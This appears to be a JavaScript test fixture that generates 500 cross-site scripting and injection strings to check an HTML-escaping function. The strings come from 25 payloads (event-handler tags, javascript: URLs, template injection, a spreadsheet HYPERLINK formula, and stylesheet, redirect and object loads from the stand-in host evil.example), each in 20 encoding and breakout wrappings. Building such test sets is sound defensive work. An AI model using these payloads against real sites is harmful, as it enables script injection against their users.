// payloads.mjs - tests: 500 texts that would be markup, script or a formula where they are not taken as text.
//
// 25 ways of getting out of text, an attribute, a script, a sheet, an address, a comment or a CDATA
// section, each in 20 wrappings: quotes, cases, blanks that are none, entities, bytes that other
// decoders take for a bracket. None of them holds a control character: those are dropped everywhere
// (unit test of html_escape).
const acts = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<body onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x", "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example/>", "<object data=//evil.example/x>", "<template><script>alert(1)</script></template>",
  "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "onmouseover=alert(1) x=", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "=HYPERLINK(\"//evil.example\",\"x\")",
  "<video><source onerror=alert(1)></video>",
];
const wraps = [
  (x) => x, (x) => `">${x}`, (x) => `'>${x}`, (x) => `" ${x} "`, (x) => `' ${x} '`, (x) => `</textarea>${x}`, (x) => `</title></style></script>${x}`, (x) => `--!>${x}<!--`,
  (x) => `]]>${x}`, (x) => `\`${x}\``, (x) => x.toUpperCase(), (x) => x.replaceAll("<", "&lt;").replaceAll(">", "&gt;"), (x) => x.replaceAll("<", "&#x3c;"), (x) => x.replaceAll("<", "%3C").replaceAll(">", "%3E"),
  (x) => x.replaceAll("<", "\\u003c"), (x) => x.replaceAll("<", "＜").replaceAll(">", "＞"), (x) => x.replaceAll(" ", "/"), (x) => `${x}&quot;&apos;&amp;`, (x) => `</td></tr></table>${x}`, (x) => `<<${x}>>`,
];
export const payloads = acts.flatMap((act, i) => wraps.map((wrap, k) => `${i}.${k} ${wrap(act)}`));
